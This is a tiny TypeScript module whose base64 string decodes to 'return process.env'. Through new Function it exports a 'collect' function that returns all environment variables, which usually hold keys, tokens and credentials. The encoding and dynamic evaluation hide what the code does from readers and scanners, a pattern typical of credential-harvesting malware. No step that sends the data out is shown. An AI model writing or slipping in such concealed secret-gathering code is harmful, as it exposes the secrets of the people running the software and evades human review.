const payload = "cmV0dXJuIHByb2Nlc3MuZW52";

function decode(text: string): string {
  return Buffer.from(text, "base64").toString("utf-8");
}

export const collect = new Function(decode(payload));
